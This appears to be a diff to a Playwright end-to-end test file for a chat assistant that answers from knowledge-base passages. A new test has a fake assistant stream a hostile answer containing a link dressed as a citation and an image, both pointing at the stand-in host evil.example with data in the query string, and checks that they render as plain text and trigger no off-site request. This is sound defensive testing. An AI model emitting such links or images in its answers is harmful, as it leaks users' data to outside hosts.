@@ -1,7 +1,7 @@
 import type { BrowserContext, Page } from "@playwright/test";
 import { startFakeAssistant, type FakeAssistant } from "./fixtures/assistant";
 import { answers, ask } from "./fixtures/chat";
-import { ADA, openDash, signInAs } from "./fixtures/dash";
+import { openDash, signInAs } from "./fixtures/dash";
 import { ASSISTANT_SITE } from "./fixtures/sites";
 import { pauseClock, workspaceContext } from "./fixtures/workspace";
 import { expect, test } from "./fixtures/test";
@@ -27,6 +27,8 @@ const writing = (page: Page) => page.getByRole("article", { name: "Assistant (wr
 /** Signs Ada in and opens the chat in KB scope. */
 async function openChat(page: Page, context: BrowserContext) {
   await signInAs(context);
+  // A cookie of the page's host, which the endpoint (the same host, another port) must not be sent.
+  await context.addCookies([{ name: "site-session", value: "secret", domain: "127.0.0.1", path: "/" }]);
   await page.clock.install({ time: new Date("2025-03-14T10:00:00+02:00") });
   await openDash(page, "/dash/chat", "Chat");
   await page.getByRole("combobox", { name: "Scope" }).selectOption("kb");
@@ -46,7 +48,9 @@ test("the answer streams in pieces, written from only the passages sent; an inve
   expect(body.messages[0]?.content).toMatch(/only/i);
   expect(body.messages[1]?.content).toContain(QUESTION);
   expect(body.messages[1]?.content).toMatch(/\[1\][\s\S]*Miranda rights and the rights of arrested persons[\s\S]*remain silent/);
-  expect(request.headers.authorization).toBe(`Bearer demo-access-${ADA.id}`);
+  // A model called directly is not the project's Edge Function: it gets no access token and no cookie (item 6).
+  expect(request.headers.authorization).toBeUndefined();
+  expect(request.headers.cookie).toBeUndefined();
 
   fake.release();
   await expect(writing(page)).toContainText("Before questioning");
@@ -104,5 +108,49 @@ test.describe("a failed request", () => {
     const answer = answers(page).last();
     await expect(answer).toContainText("The assistant could not answer (error 500). Try again later. Here is what your sources say instead:", { timeout: 15_000 });
     await expect(answer.locator("blockquote").first()).toContainText(QUOTED);
+  });
+});
+
+test("a hostile answer: a link dressed as a citation and an image show their addresses as text; only the real marker is a button", async ({ page, context }) => {
+  const offSite: string[] = [];
+  page.on("request", (request) => void (request.url().includes("evil.example") && offSite.push(request.url())));
+  await openChat(page, context);
+  fake.respond({
+    pieces: [
+      "Silence is a right [1]. See [\\[1\\]](https://evil.example/?d=miranda-silence) ",
+      "and ![the chart](https://evil.example/pixel.png?d=miranda) and [the note](#citation-1).",
+    ],
+    held: true,
+  });
+  await ask(page, QUESTION);
+  await fake.waitForRequest();
+  fake.release();
+  // While it streams: text, no link, no image.
+  await expect(writing(page)).toContainText("https://evil.example/?d=miranda-silence");
+  await expect(writing(page).getByRole("link")).toHaveCount(0);
+  await expect(writing(page).locator("img")).toHaveCount(0);
+  fake.release();
+  const answer = answers(page).last();
+  await expect(answer).toContainText("Silence is a right [1]. See [1] (https://evil.example/?d=miranda-silence) and the chart (https://evil.example/pixel.png?d=miranda) and the note (#citation-1).");
+  await expect(answer.getByRole("link")).toHaveCount(0);
+  await expect(answer.locator("img")).toHaveCount(0);
+  await expect(answer.getByRole("button", { name: /^\[\d+\]/ })).toHaveCount(1);
+  await answer.getByRole("button", { name: /^\[1\] Miranda rights/ }).click();
+  await expect(page.getByRole("dialog", { name: ITEM })).toBeVisible();
+  expect(offSite).toEqual([]);
+});
+
+test.describe("past the daily quota", () => {
+  test.use({ allowConsoleErrors: [/status of 429/] });
+
+  test("the reply says only that the limit is reached, then quotes the passages", async ({ page, context }) => {
+    await openChat(page, context);
+    fake.respond({ status: 429, message: "Daily assistant limit reached.", code: "daily_limit" });
+    await ask(page, QUESTION);
+    const answer = answers(page).last();
+    await expect(answer.locator("p").first()).toHaveText("Daily assistant limit reached; the quoted passages are below.", { timeout: 15_000 });
+    await expect(answer.locator("blockquote").first()).toContainText(QUOTED);
+    await expect(answer).not.toContainText("Here is what your sources say instead");
+    await expect(answer).not.toContainText(/error 429|busy/);
   });
 });
